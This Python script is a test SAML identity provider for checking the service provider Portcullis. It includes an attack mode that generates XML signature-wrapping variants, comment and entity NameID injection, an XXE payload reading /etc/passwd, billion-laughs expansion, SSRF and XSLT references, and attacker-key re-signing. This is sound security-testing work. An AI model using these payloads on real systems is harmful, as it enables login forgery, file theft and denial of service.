#!/usr/bin/env python3
"""Scriptable SAML 2.0 identity provider, for testing Portcullis as a service provider.

Run it as `scripts/saml-idp SUBCOMMAND ...`, which installs what it needs (pysaml2, lxml, the
Debian xmlsec1 command). Every XML signature is made by the xmlsec1 command (enveloped, exc-c14n,
Reference URI="#ID", placed right after the Issuer), and so is the content encryption; pysaml2
lends its constants and parses the messages an SP sends. Nothing is sent anywhere: each subcommand
prints one document to stdout (UTF-8 XML, a URL, or one JSON object); errors go to stderr with
exit status 1 (2 for bad usage). Times are whole seconds, UTC, relative to when the command runs.

response     A Response as the IdP posts it to the SP's ACS (XML, not base64).
  --idp ENTITYID --sp ENTITYID --acs URL   required
  --nameid X                   required unless --status says failure
  --key PEM --cert PEM         IdP signing key and certificate (needed when signing)
  --in-response-to ID          left out: an unsolicited response
  --nameid-format URI          default urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress
  --attr NAME=VALUE            repeatable; a repeated NAME makes a multi-valued attribute; the
                               Name is exactly NAME, NameFormat unspecified
  --session-index S
  --sign-response/--no-sign-response, --sign-assertion/--no-sign-assertion   both signed by default
  --sign-alg rsa-sha256|rsa-sha1|rsa-sha512   default rsa-sha256; the digest follows (sha256 ...)
  --encrypt --sp-cert PEM      an EncryptedAssertion for the SP's certificate. A signed assertion
                               is signed first, then encrypted; a signed Response is signed last,
                               over the EncryptedAssertion
  --enc-alg aes128-cbc|aes256-cbc|aes128-gcm|aes256-gcm              default aes256-cbc
  --key-transport rsa-oaep-mgf1p|rsa-oaep|rsa-1_5                     default rsa-oaep-mgf1p
  --oaep-digest sha1|sha256    the OAEP DigestMethod, for both OAEP transports (default sha1);
                               MGF1 is SHA-1, the default of both, so no MGF element is written.
                               xmlsec1 1.2 decrypts rsa-oaep-mgf1p with sha1 only
  Timing, in seconds from now, may be negative:
  --issue-offset S             IssueInstant of Response and Assertion, AuthnInstant (default 0)
  --not-before-offset S        Conditions NotBefore (default 0)
  --not-on-or-after-offset S   NotOnOrAfter of Conditions and SubjectConfirmationData (default 300)
  --session-not-on-or-after-offset S   AuthnStatement SessionNotOnOrAfter (left out by default)
  Overrides for refusal tests:
  --destination X | --no-destination   Response Destination (default --acs)
  --recipient X                SubjectConfirmationData Recipient (default --acs)
  --audience X | --no-audience   repeatable: the Audiences (default --sp), or no restriction
  --assertion-issuer X, --response-issuer X                           (default --idp)
  --status URI [--status-message TEXT]   a status other than Success comes with a StatusMessage
                               and no assertion; a second-level code is nested under Responder
  --assertion-id ID            a fixed Assertion ID, for replay tests

attack --kind KIND --in FILE   Reads a Response made by `response` (unencrypted); prints it
                               attacked. Options the kinds use:
  --key PEM --cert PEM         the IdP's, for the kinds the IdP signs again after the change
  --attacker-key PEM --attacker-cert PEM   for attacker-key
  --sign-alg ALG               for the signatures made again (default rsa-sha256)
  --evil-nameid X              the attacker's NameID (default mallory@evil.test)
  --nameid X --suffix S        for the *-nameid kinds: the NameID reads X then S. X defaults to
                               the input's NameID, S to .evil.test; an X ending in S is cut there
  --url URL                    for ssrf-reference
 Kinds (sources: SAML Raider's XSW1-8, the 2018 comment-injection disclosure, defusedxml):
  xsw1 ... xsw8     signature wrapping, one shape each, described at the xsw* functions. xsw1-2
                    wrap the Response signature (give a signed Response), xsw3-8 the Assertion
                    signature (a Response signature is removed first). The evil copy has new IDs
                    and --evil-nameid as NameID and email attribute. The tool checks with xmlsec1
                    that the original signature still verifies and warns on stderr if not: xmlsec1's
                    enveloped-signature transform drops the whole Signature subtree, so the shapes
                    that hide the original inside its own Signature (xsw1, xsw6, xsw8) fail there
  comment-nameid    NameID X<!---->S, signed again by the IdP (exc-c14n drops the comment)
  pi-nameid         NameID X<?evil ?>S, signed again by the IdP
  entity-nameid     NameID X&evil; with <!ENTITY evil "S"> in a DOCTYPE, signed by the IdP over the
                    expanded text: verifies only where entities are expanded
  xxe               DOCTYPE with <!ENTITY xxe SYSTEM "file:///etc/passwd">, &xxe; in a new
                    AttributeValue (signatures left as they were, no longer valid)
  billion-laughs    the nested lol..lol9 entities, &lol9; in a new AttributeValue
  ssrf-reference    the innermost signature's Reference URI is --url (no transforms), signed by the
                    IdP over an empty body (xmlsec1 --url-map: nothing is fetched); an outer
                    signature is made again
  xslt-transform    the innermost signature's Reference carries an identity XSLT transform, signed
                    by the IdP (xmlsec1 verifies it); an outer signature is made again
  attacker-key      every signature made again with the attacker's key, his certificate in KeyInfo
  strip-signatures  every ds:Signature removed
  tamper-nameid     NameID set to --evil-nameid after signing (no longer verifies)
  two-assertions    an unsigned evil Assertion after the signed one (Response signature removed)

metadata --idp ENTITYID --cert PEM --sso URL [--slo URL] [--second-cert PEM]
         [--want-authn-requests-signed] [--valid-until ISO8601] [--sign --key PEM] [--sign-alg ALG]
  An EntityDescriptor with an IDPSSODescriptor: a signing KeyDescriptor per certificate, the SLO
  and SSO services for HTTP-Redirect and HTTP-POST, NameIDFormat emailAddress.

parse-authn --sp-metadata FILE (--query QUERY | --post-b64 B64)
  Decodes an SP's AuthnRequest: QUERY is the HTTP-Redirect query string or the whole URL, B64 the
  HTTP-POST SAMLRequest value. Verifies its signature with the signing certificates of the SP
  metadata when one is present, or missing while the metadata says AuthnRequestsSigned="true".
  HTTP-Redirect: over the query as sent (SAML bindings 3.4.4.1). HTTP-POST: the root's enveloped
  signature, which must reference the root, checked by xmlsec1 with the metadata key alone.
  Prints {"id", "issuer", "acs_url", "destination", "protocol_binding", "name_id_policy_format",
  "force_authn", "signed", "signature_valid"} (signature_valid null when unsigned and not
  required); exits 1 after printing when signature_valid is false.

logout-request --idp ENTITYID --key PEM --cert PEM --slo URL --nameid X [--sp ENTITYID]
    [--nameid-format URI] [--session-index S] [--binding post|redirect] [--relay-state RS]
    [--sign-alg ALG] [--no-sign]
logout-response --idp ENTITYID --key PEM --cert PEM --slo URL --in-response-to ID
    [--sp ENTITYID] [--status URI] [--binding post|redirect] [--relay-state RS] [--sign-alg ALG]
    [--no-sign]
  post (default): the XML, with an enveloped signature. redirect: the URL
  SLO?SAMLRequest=...[&RelayState=...]&SigAlg=...&Signature=... (SAMLResponse for a response),
  signed per the HTTP-Redirect binding. --sp is accepted for symmetry: logout messages name no SP.

parse-logout --sp-metadata FILE (--query QUERY | --post-b64 B64)
  Decodes an SP's LogoutRequest or LogoutResponse and verifies its signature, if any, as
  parse-authn does. Prints {"kind", "id", "issuer", "destination", "in_response_to", "nameid",
  "session_index", "status", "signed", "signature_valid"}: what a kind lacks is null,
  session_index is the first SessionIndex, status the top-level StatusCode. Exits 1 after
  printing when the signature is invalid.
"""
import argparse
import base64
import copy
import datetime
import json
import os
import subprocess
import sys
import tempfile
import urllib.parse
import uuid

from cryptography import x509
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from lxml import etree
from saml2 import BINDING_HTTP_POST, BINDING_HTTP_REDIRECT, md, saml, samlp, xmldsig, xmlenc
from saml2.s_utils import decode_base64_and_inflate, deflate_and_base64_encode

XENC11 = "http://www.w3.org/2009/xmlenc11#"
XSLT = "http://www.w3.org/1999/XSL/Transform"
NS = {"samlp": samlp.NAMESPACE, "saml": saml.NAMESPACE, "md": md.NAMESPACE,
      "ds": xmldsig.NAMESPACE, "xenc": xmlenc.NAMESPACE, "xsl": XSLT}

# --sign-alg: SignatureMethod, DigestMethod, and the hash of the HTTP-Redirect signature.
SIGN_ALGS = {
    "rsa-sha256": (xmldsig.SIG_RSA_SHA256, xmldsig.DIGEST_SHA256, hashes.SHA256),
    "rsa-sha1": (xmldsig.SIG_RSA_SHA1, xmldsig.DIGEST_SHA1, hashes.SHA1),
    "rsa-sha512": (xmldsig.SIG_RSA_SHA512, xmldsig.DIGEST_SHA512, hashes.SHA512),
}
# The SigAlg values accepted on an SP's HTTP-Redirect message.
REDIRECT_HASHES = {xmldsig.SIG_RSA_SHA1: hashes.SHA1, xmldsig.SIG_RSA_SHA256: hashes.SHA256,
                   xmldsig.SIG_RSA_SHA384: hashes.SHA384, xmldsig.SIG_RSA_SHA512: hashes.SHA512}
# --enc-alg: EncryptionMethod and key length in bytes.
ENC_ALGS = {
    "aes128-cbc": (xmlenc.NAMESPACE + "aes128-cbc", 16),
    "aes256-cbc": (xmlenc.NAMESPACE + "aes256-cbc", 32),
    "aes128-gcm": (XENC11 + "aes128-gcm", 16),
    "aes256-gcm": (XENC11 + "aes256-gcm", 32),
}
KEY_TRANSPORTS = {"rsa-oaep-mgf1p": xmlenc.NAMESPACE + "rsa-oaep-mgf1p",
                  "rsa-oaep": XENC11 + "rsa-oaep", "rsa-1_5": xmlenc.NAMESPACE + "rsa-1_5"}
OAEP_DIGESTS = {"sha1": (xmldsig.DIGEST_SHA1, hashes.SHA1),
                "sha256": (xmldsig.DIGEST_SHA256, hashes.SHA256)}
TOP_LEVEL_STATUSES = {samlp.STATUS_SUCCESS, samlp.STATUS_REQUESTER, samlp.STATUS_RESPONDER,
                      samlp.STATUS_VERSION_MISMATCH}
# Elements whose ID attribute xmlsec1 must know to resolve Reference URI="#ID" and --node-id.
ID_ATTR_ARGS = [arg for ns, name in [
    (samlp.NAMESPACE, "Response"), (saml.NAMESPACE, "Assertion"),
    (samlp.NAMESPACE, "AuthnRequest"), (samlp.NAMESPACE, "LogoutRequest"),
    (samlp.NAMESPACE, "LogoutResponse"), (md.NAMESPACE, "EntityDescriptor"),
] for arg in ("--id-attr:ID", f"{ns}:{name}")]
# Never expand entities nor touch the network while reading a document.
PARSER = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
NOW = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)


class ToolError(Exception):
    """A failure reported on stderr with exit status 1."""


# ---------------------------------------------------------------- XML building blocks

def qname(tag):
    """'prefix:Name' -> '{namespace}Name'."""
    prefix, name = tag.split(":")
    return f"{{{NS[prefix]}}}{name}"


def element(tag, text=None, prefixes=(), **attrs):
    """A new element, declaring its prefix and these others; attributes whose value is None are
    left out."""
    nsmap = {prefix: NS[prefix] for prefix in (tag.split(":")[0], *prefixes)}
    el = etree.Element(qname(tag), {k: v for k, v in attrs.items() if v is not None}, nsmap=nsmap)
    el.text = text
    return el


def sub(parent, tag, text=None, **attrs):
    """Appends a new element to parent and returns it."""
    el = element(tag, text, **attrs)
    parent.append(el)
    return el


def new_id():
    return "_" + uuid.uuid4().hex


def instant(offset=0):
    return (NOW + datetime.timedelta(seconds=offset)).strftime("%Y-%m-%dT%H:%M:%SZ")


def parse_xml(data):
    return etree.fromstring(data, PARSER)


def serialize(root, doctype=None):
    """The document as UTF-8 bytes; doctype is an internal DTD subset to declare."""
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n'
    if doctype is not None:
        name = etree.QName(root).localname
        name = f"{root.prefix}:{name}" if root.prefix else name
        head += f"<!DOCTYPE {name} [\n{doctype}\n]>\n".encode()
    return head + etree.tostring(root, encoding="UTF-8")


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def read(path):
    with open(path, "rb") as f:
        return f.read()


def emit(data):
    sys.stdout.buffer.write(data if data.endswith(b"\n") else data + b"\n")


def read_cert(path):
    return x509.load_pem_x509_certificate(read(path))


def cert_base64(path):
    return base64.b64encode(read_cert(path).public_bytes(serialization.Encoding.DER)).decode()


def pem_of(x509_certificate):
    """PEM bytes of the certificate in a ds:X509Certificate element."""
    der = base64.b64decode("".join(x509_certificate.text.split()))
    return x509.load_der_x509_certificate(der).public_bytes(serialization.Encoding.PEM)


def key_info(parent, cert_path):
    """Appends ds:KeyInfo/ds:X509Data with the certificate."""
    data = sub(sub(parent, "ds:KeyInfo"), "ds:X509Data")
    sub(data, "ds:X509Certificate", cert_base64(cert_path))


def add_status(parent, code, message):
    """samlp:Status; a second-level code is nested under Responder, a failure gets a message."""
    status = sub(parent, "samlp:Status")
    top = code if code in TOP_LEVEL_STATUSES else samlp.STATUS_RESPONDER
    top_code = sub(status, "samlp:StatusCode", Value=top)
    if top != code:
        sub(top_code, "samlp:StatusCode", Value=code)
    if code != samlp.STATUS_SUCCESS:
        sub(status, "samlp:StatusMessage", message)


# ---------------------------------------------------------------- signatures (xmlsec1)

def xmlsec1(*args, check=True):
    """Runs the xmlsec1 command; returns whether it succeeded (raises instead when check)."""
    result = subprocess.run(["xmlsec1", *args], capture_output=True, text=True)
    if check and result.returncode != 0:
        raise ToolError(f"xmlsec1 {args[0]} failed:\n{result.stderr.strip()}")
    return result.returncode == 0


def transform(algorithm, *children):
    el = element("ds:Transform", Algorithm=algorithm)
    el.extend(children)
    return el


def signature_template(alg, target_id):
    """An empty enveloped signature of the element with this ID, for xmlsec1 to fill in."""
    sig_uri, digest_uri, _ = SIGN_ALGS[alg]
    sig = element("ds:Signature")
    info = sub(sig, "ds:SignedInfo")
    sub(info, "ds:CanonicalizationMethod", Algorithm=xmldsig.TRANSFORM_C14N)
    sub(info, "ds:SignatureMethod", Algorithm=sig_uri)
    ref = sub(info, "ds:Reference", URI="#" + target_id)
    sub(ref, "ds:Transforms").extend([transform(xmldsig.TRANSFORM_ENVELOPED),
                                      transform(xmldsig.TRANSFORM_C14N)])
    sub(ref, "ds:DigestMethod", Algorithm=digest_uri)
    sub(ref, "ds:DigestValue")
    sub(sig, "ds:SignatureValue")
    sub(sub(sub(sig, "ds:KeyInfo"), "ds:X509Data"), "ds:X509Certificate")
    return sig


def place_signature(el, sig):
    """Puts sig where the schemas want it: right after el's Issuer, else first."""
    issuer = el.find("saml:Issuer", NS)
    if issuer is None:
        el.insert(0, sig)
    else:
        issuer.addnext(sig)


def own_signature(el):
    return el.find("ds:Signature", NS)


def detach(el):
    """Removes el but leaves its tail text in place, as the enveloped-signature transform does
    (lxml would take the tail away with the element, and the digest would change)."""
    parent, previous = el.getparent(), el.getprevious()
    if previous is not None:
        previous.tail = (previous.tail or "") + (el.tail or "")
    else:
        parent.text = (parent.text or "") + (el.tail or "")
    parent.remove(el)


def sign_document(root, ids, key, cert, url_map=None):
    """Has xmlsec1 fill in the signature templates of the elements with these IDs, in this order
    (inner elements first: an outer digest covers the inner signature). url_map maps a URL a
    Reference names to the bytes xmlsec1 shall digest for it. Returns the new root."""
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "in.xml")
        write(path, serialize(root))
        mapped = []
        for i, (url, body) in enumerate((url_map or {}).items()):
            mapped += [f"--url-map:{url}", os.path.join(tmp, f"url{i}")]
            write(mapped[-1], body)
        for i, target in enumerate(ids):
            out = os.path.join(tmp, f"out{i}.xml")
            xmlsec1("--sign", "--privkey-pem", f"{key},{cert}", *ID_ATTR_ARGS, *mapped,
                    "--node-id", target, "--output", out, path)
            path = out
        return parse_xml(read(path))


def verify_signature(root, sig, cert_pem, key_option="--trusted-pem"):
    """Whether xmlsec1 accepts this one ds:Signature of the document, given cert_pem (PEM bytes)
    as the only trusted certificate, or with --pubkey-cert-pem as the key itself."""
    index = next(i for i, s in enumerate(root.iter(qname("ds:Signature")), 1) if s is sig)
    xpath = f"(//*[local-name()='Signature' and namespace-uri()='{xmldsig.NAMESPACE}'])[{index}]"
    with tempfile.TemporaryDirectory() as tmp:
        doc, cert = os.path.join(tmp, "doc.xml"), os.path.join(tmp, "cert.pem")
        write(doc, serialize(root))
        write(cert, cert_pem)
        return xmlsec1("--verify", key_option, cert, *ID_ATTR_ARGS, "--node-xpath", xpath, doc,
                       check=False)


# ---------------------------------------------------------------- encryption

def encrypted_key(session_key, cert_path, transport, oaep_digest):
    """xenc:EncryptedKey: session_key wrapped for the certificate's RSA key."""
    public_key = read_cert(cert_path).public_key()
    method = element("xenc:EncryptionMethod", Algorithm=KEY_TRANSPORTS[transport])
    if transport == "rsa-1_5":
        cipher = public_key.encrypt(session_key, padding.PKCS1v15())
    else:
        digest_uri, digest = OAEP_DIGESTS[oaep_digest]
        sub(method, "ds:DigestMethod", Algorithm=digest_uri)
        cipher = public_key.encrypt(session_key, padding.OAEP(
            mgf=padding.MGF1(hashes.SHA1()), algorithm=digest(), label=None))
    key = element("xenc:EncryptedKey")
    key.append(method)
    key_info(key, cert_path)
    sub(sub(key, "xenc:CipherData"), "xenc:CipherValue", base64.b64encode(cipher).decode())
    return key


def encrypt_element(el, cert_path, enc_alg, transport, oaep_digest):
    """xenc:EncryptedData of el, with the EncryptedKey in its KeyInfo. xmlsec1 encrypts the content
    under a fresh session key; the key is wrapped here, because xmlsec1 1.2 has no xmlenc11
    rsa-oaep (one code path for the three transports)."""
    algorithm, size = ENC_ALGS[enc_alg]
    session_key = os.urandom(size)
    template = element("xenc:EncryptedData", Type=xmlenc.NAMESPACE + "Element")
    sub(template, "xenc:EncryptionMethod", Algorithm=algorithm)
    sub(sub(template, "xenc:CipherData"), "xenc:CipherValue")
    with tempfile.TemporaryDirectory() as tmp:
        data, key, tmpl, out = (os.path.join(tmp, name)
                                for name in ("data.xml", "key.bin", "tmpl.xml", "out.xml"))
        write(data, serialize(el))
        write(key, session_key)
        write(tmpl, serialize(template))
        xmlsec1("--encrypt", "--aeskey", key, "--xml-data", data, "--output", out, tmpl)
        encrypted = parse_xml(read(out))
    key = element("ds:KeyInfo")
    key.append(encrypted_key(session_key, cert_path, transport, oaep_digest))
    encrypted.find("xenc:EncryptionMethod", NS).addnext(key)
    return encrypted


# ---------------------------------------------------------------- response

def assertion_element(a):
    issued = instant(a.issue_offset)
    expires = instant(a.not_on_or_after_offset)
    assertion = element("saml:Assertion", ID=a.assertion_id or new_id(), Version="2.0",
                        IssueInstant=issued)
    sub(assertion, "saml:Issuer", a.assertion_issuer or a.idp)
    subject = sub(assertion, "saml:Subject")
    sub(subject, "saml:NameID", a.nameid, Format=a.nameid_format)
    confirmation = sub(subject, "saml:SubjectConfirmation", Method=saml.SCM_BEARER)
    sub(confirmation, "saml:SubjectConfirmationData", InResponseTo=a.in_response_to,
        NotOnOrAfter=expires, Recipient=a.recipient or a.acs)
    conditions = sub(assertion, "saml:Conditions", NotBefore=instant(a.not_before_offset),
                     NotOnOrAfter=expires)
    if not a.no_audience:
        restriction = sub(conditions, "saml:AudienceRestriction")
        for audience in a.audience or [a.sp]:
            sub(restriction, "saml:Audience", audience)
    session_end = a.session_not_on_or_after_offset
    statement = sub(assertion, "saml:AuthnStatement", AuthnInstant=issued,
                    SessionIndex=a.session_index,
                    SessionNotOnOrAfter=None if session_end is None else instant(session_end))
    sub(sub(statement, "saml:AuthnContext"), "saml:AuthnContextClassRef",
        saml.AUTHN_PASSWORD_PROTECTED)
    if a.attr:
        values = {}
        for pair in a.attr:
            name, sep, value = pair.partition("=")
            if not sep:
                raise ToolError(f"--attr wants NAME=VALUE, not {pair!r}")
            values.setdefault(name, []).append(value)
        attributes = sub(assertion, "saml:AttributeStatement")
        for name, vals in values.items():
            attribute = sub(attributes, "saml:Attribute", Name=name,
                            NameFormat=saml.NAME_FORMAT_UNSPECIFIED)
            for value in vals:
                sub(attribute, "saml:AttributeValue", value)
    return assertion


def encrypt_assertion(response, a):
    """Replaces the Response's Assertion with an EncryptedAssertion for the SP."""
    assertion = response.find("saml:Assertion", NS)
    wrapper = element("saml:EncryptedAssertion")
    wrapper.append(encrypt_element(assertion, a.sp_cert, a.enc_alg, a.key_transport,
                                   a.oaep_digest))
    etree.indent(wrapper, level=1)
    wrapper.tail = assertion.tail
    response.replace(assertion, wrapper)


def cmd_response(a):
    success = a.status == samlp.STATUS_SUCCESS
    if success and not a.nameid:
        raise ToolError("--nameid is required for a successful response")
    if (a.sign_response or a.sign_assertion) and not (a.key and a.cert):
        raise ToolError("signing needs --key and --cert")
    if a.encrypt and not a.sp_cert:
        raise ToolError("--encrypt needs --sp-cert")
    response = element("samlp:Response", prefixes=["saml"], ID=new_id(), Version="2.0",
                       IssueInstant=instant(a.issue_offset),
                       Destination=None if a.no_destination else a.destination or a.acs,
                       InResponseTo=a.in_response_to)
    sub(response, "saml:Issuer", a.response_issuer or a.idp)
    add_status(response, a.status, a.status_message)
    assertion = assertion_element(a) if success else None
    if assertion is not None:
        response.append(assertion)
        if a.sign_assertion:
            place_signature(assertion, signature_template(a.sign_alg, assertion.get("ID")))
    if a.sign_response:
        place_signature(response, signature_template(a.sign_alg, response.get("ID")))
    etree.indent(response)
    if assertion is not None and a.sign_assertion:
        response = sign_document(response, [assertion.get("ID")], a.key, a.cert)
    if assertion is not None and a.encrypt:
        encrypt_assertion(response, a)
    if a.sign_response:
        response = sign_document(response, [response.get("ID")], a.key, a.cert)
    emit(serialize(response))


# ---------------------------------------------------------------- attacks

def is_email_attribute(name):
    return "mail" in name.lower() or name == "urn:oid:0.9.2342.19200300.100.1.3"


def the_assertion(response):
    assertion = response.find("saml:Assertion", NS)
    if assertion is None:
        raise ToolError("the input has no plaintext saml:Assertion (make it without --encrypt)")
    return assertion


def nameid_of(response):
    return the_assertion(response).find("saml:Subject/saml:NameID", NS)


def falsify(el, evil_nameid):
    """The attacker's copy of el: no signatures, fresh IDs, his NameID and email."""
    evil = copy.deepcopy(el)
    for sig in list(evil.iter(qname("ds:Signature"))):
        detach(sig)
    for node in evil.iter(qname("samlp:Response"), qname("saml:Assertion")):
        node.set("ID", new_id())
    for nameid in evil.iter(qname("saml:NameID")):
        nameid.text = evil_nameid
    for attribute in evil.iter(qname("saml:Attribute")):
        if is_email_attribute(attribute.get("Name", "")):
            for value in attribute.findall("saml:AttributeValue", NS):
                value.text = evil_nameid
    return evil


def unsigned_copy(el):
    """A copy of el without its own signature: what that signature's digest covers."""
    original = copy.deepcopy(el)
    detach(own_signature(original))
    return original


def response_signature(response):
    sig = own_signature(response)
    if sig is None:
        raise ToolError("this kind wraps the Response signature: give a signed Response")
    return sig


def assertion_signature(response):
    """The signed Assertion and its signature; a Response signature is removed first, since the
    attack changes what it covers."""
    if own_signature(response) is not None:
        detach(own_signature(response))
    assertion = the_assertion(response)
    sig = own_signature(assertion)
    if sig is None:
        raise ToolError("this kind wraps the Assertion signature: give a signed Assertion")
    return assertion, sig


def xsw1(response, a):
    """XSW1: the evil Response is the root and carries the original signature, inside which (after
    KeyInfo) sits the original Response without its signature."""
    sig = response_signature(response)
    evil, original = falsify(response, a.evil_nameid), unsigned_copy(response)
    place_signature(evil, sig)
    sig.append(original)
    return evil, original


def xsw2(response, a):
    """XSW2: as XSW1 but detached: the original Response (unsigned) is a child of the evil
    Response, just before the signature."""
    sig = response_signature(response)
    evil, original = falsify(response, a.evil_nameid), unsigned_copy(response)
    place_signature(evil, sig)
    sig.addprevious(original)
    return evil, original


def xsw3(response, a):
    """XSW3: the evil Assertion (unsigned) before the original signed Assertion."""
    assertion, _ = assertion_signature(response)
    assertion.addprevious(falsify(assertion, a.evil_nameid))
    return response, assertion


def xsw4(response, a):
    """XSW4: the evil Assertion takes the original's place and holds the signed original as its
    last child."""
    assertion, _ = assertion_signature(response)
    evil = falsify(assertion, a.evil_nameid)
    assertion.addprevious(evil)
    evil.append(assertion)
    return response, assertion


def xsw5(response, a):
    """XSW5: the evil Assertion carries the original signature; the original Assertion, without
    its signature, is appended at the end of the Response."""
    assertion, sig = assertion_signature(response)
    evil, original = falsify(assertion, a.evil_nameid), unsigned_copy(assertion)
    place_signature(evil, sig)
    response.replace(assertion, evil)
    response.append(original)
    return response, original


def xsw6(response, a):
    """XSW6: the evil Assertion carries the original signature, inside which (after KeyInfo) sits
    the original Assertion without its signature."""
    assertion, sig = assertion_signature(response)
    evil, original = falsify(assertion, a.evil_nameid), unsigned_copy(assertion)
    place_signature(evil, sig)
    response.replace(assertion, evil)
    sig.append(original)
    return response, original


def xsw7(response, a):
    """XSW7: a samlp:Extensions block holding the evil Assertion (unsigned), before the Status;
    the signed original Assertion stays where it was."""
    assertion, _ = assertion_signature(response)
    extensions = element("samlp:Extensions")
    extensions.append(falsify(assertion, a.evil_nameid))
    response.find("samlp:Status", NS).addprevious(extensions)
    return response, assertion


def xsw8(response, a):
    """XSW8: the evil Assertion carries the original signature, in which a ds:Object holds the
    original Assertion without its signature."""
    assertion, sig = assertion_signature(response)
    evil, original = falsify(assertion, a.evil_nameid), unsigned_copy(assertion)
    place_signature(evil, sig)
    response.replace(assertion, evil)
    sub(sig, "ds:Object").append(original)
    return response, original


XSW = {"xsw1": xsw1, "xsw2": xsw2, "xsw3": xsw3, "xsw4": xsw4,
       "xsw5": xsw5, "xsw6": xsw6, "xsw7": xsw7, "xsw8": xsw8}


def wrap(response, a):
    """The XSW kinds; warns when xmlsec1 no longer accepts the original signature."""
    root, original = XSW[a.kind](response, a)
    target = "#" + original.get("ID")
    sig = next(s for s in root.iter(qname("ds:Signature"))
               if s.find("ds:SignedInfo/ds:Reference", NS).get("URI") == target)
    if not verify_signature(root, sig, pem_of(sig.find(".//ds:X509Certificate", NS))):
        print(f"saml-idp: warning: xmlsec1 does not verify the original signature in {a.kind}",
              file=sys.stderr)
    return serialize(root)


def renew_signatures(response, alg):
    """Replaces each signature of the Response with an empty template; returns the IDs to sign,
    innermost first."""
    signed = [el for el in (*response.findall("saml:Assertion", NS), response)
              if own_signature(el) is not None]
    if not signed:
        raise ToolError("the input has no signature to make again")
    for el in signed:
        old = own_signature(el)
        new = signature_template(alg, el.get("ID"))
        new.tail = old.tail
        el.replace(old, new)
    return [el.get("ID") for el in signed]


def idp_keys(a):
    if not (a.key and a.cert):
        raise ToolError(f"{a.kind} is signed by the IdP: give --key and --cert")
    return a.key, a.cert


def split_nameid(response, a):
    """(X, S) of the *-nameid kinds: the NameID reads X then S."""
    head = a.nameid or nameid_of(response).text
    if head.endswith(a.suffix) and len(head) > len(a.suffix):
        head = head[:-len(a.suffix)]
    return head, a.suffix


def resign(response, alg, key, cert):
    return sign_document(response, renew_signatures(response, alg), key, cert)


def comment_nameid(response, a):
    nameid = nameid_of(response)
    nameid.text, suffix = split_nameid(response, a)
    nameid.append(etree.Comment(""))
    nameid[-1].tail = suffix
    return serialize(resign(response, a.sign_alg, *idp_keys(a)))


def pi_nameid(response, a):
    nameid = nameid_of(response)
    nameid.text, suffix = split_nameid(response, a)
    nameid.append(etree.ProcessingInstruction("evil"))
    nameid[-1].tail = suffix
    return serialize(resign(response, a.sign_alg, *idp_keys(a)))


def entity_nameid(response, a):
    """Signed over the expanded text (xmlsec1 cannot canonicalize an entity reference), then the
    reference and its DTD are put in."""
    head, suffix = split_nameid(response, a)
    nameid_of(response).text = head + suffix
    response = resign(response, a.sign_alg, *idp_keys(a))
    nameid = nameid_of(response)
    nameid.text = head
    nameid.append(etree.Entity("evil"))
    value = suffix.replace("&", "&#38;").replace("%", "&#37;").replace('"', "&#34;")
    return serialize(response, doctype=f'<!ENTITY evil "{value}">')


def entity_attribute(response, name, entity):
    """Adds an Attribute whose value is a reference to entity."""
    assertion = the_assertion(response)
    statement = assertion.find("saml:AttributeStatement", NS)
    if statement is None:
        statement = sub(assertion, "saml:AttributeStatement")
    attribute = sub(statement, "saml:Attribute", Name=name,
                    NameFormat=saml.NAME_FORMAT_UNSPECIFIED)
    sub(attribute, "saml:AttributeValue").append(etree.Entity(entity))


def xxe(response, a):
    entity_attribute(response, "xxe", "xxe")
    return serialize(response, doctype='<!ENTITY xxe SYSTEM "file:///etc/passwd">')


def billion_laughs(response, a):
    entity_attribute(response, "laughs", "lol9")
    lols, previous = ['<!ENTITY lol "lol">'], "lol"
    for n in range(1, 10):
        lols.append(f'<!ENTITY lol{n} "{("&" + previous + ";") * 10}">')
        previous = f"lol{n}"
    return serialize(response, doctype="\n".join(lols))


def innermost_reference(response):
    assertion = response.find("saml:Assertion", NS)
    if assertion is None or own_signature(assertion) is None:
        assertion = response
    return own_signature(assertion).find("ds:SignedInfo/ds:Reference", NS)


def ssrf_reference(response, a):
    """The digest is that of an empty body, which xmlsec1 reads from a local file."""
    if not a.url:
        raise ToolError("ssrf-reference needs --url")
    key, cert = idp_keys(a)
    ids = renew_signatures(response, a.sign_alg)
    reference = innermost_reference(response)
    reference.set("URI", a.url)
    reference.remove(reference.find("ds:Transforms", NS))
    return serialize(sign_document(response, ids, key, cert, url_map={a.url: b""}))


def xslt_transform(response, a):
    key, cert = idp_keys(a)
    ids = renew_signatures(response, a.sign_alg)
    stylesheet = element("xsl:stylesheet", version="1.0")
    template = sub(stylesheet, "xsl:template", match="@*|node()")
    sub(sub(template, "xsl:copy"), "xsl:apply-templates", select="@*|node()")
    enveloped = innermost_reference(response).find("ds:Transforms/ds:Transform", NS)
    enveloped.addnext(transform(xmldsig.TRANSFORM_XSLT, stylesheet))
    return serialize(sign_document(response, ids, key, cert))


def attacker_key(response, a):
    if not (a.attacker_key and a.attacker_cert):
        raise ToolError("attacker-key needs --attacker-key and --attacker-cert")
    return serialize(resign(response, a.sign_alg, a.attacker_key, a.attacker_cert))


def strip_signatures(response, a):
    for sig in list(response.iter(qname("ds:Signature"))):
        detach(sig)
    return serialize(response)


def tamper_nameid(response, a):
    nameid_of(response).text = a.evil_nameid
    return serialize(response)


def two_assertions(response, a):
    assertion, _ = assertion_signature(response)
    assertion.addnext(falsify(assertion, a.evil_nameid))
    return serialize(response)


ATTACKS = {**{kind: wrap for kind in XSW},
           "comment-nameid": comment_nameid, "pi-nameid": pi_nameid,
           "entity-nameid": entity_nameid, "xxe": xxe, "billion-laughs": billion_laughs,
           "ssrf-reference": ssrf_reference, "xslt-transform": xslt_transform,
           "attacker-key": attacker_key, "strip-signatures": strip_signatures,
           "tamper-nameid": tamper_nameid, "two-assertions": two_assertions}


def cmd_attack(a):
    response = parse_xml(read(a.input))
    if response.tag != qname("samlp:Response"):
        raise ToolError("--in must hold a samlp:Response")
    emit(ATTACKS[a.kind](response, a))


# ---------------------------------------------------------------- metadata

def cmd_metadata(a):
    if not a.cert or (a.sign and not a.key):
        raise ToolError("metadata needs --cert, and --key to --sign")
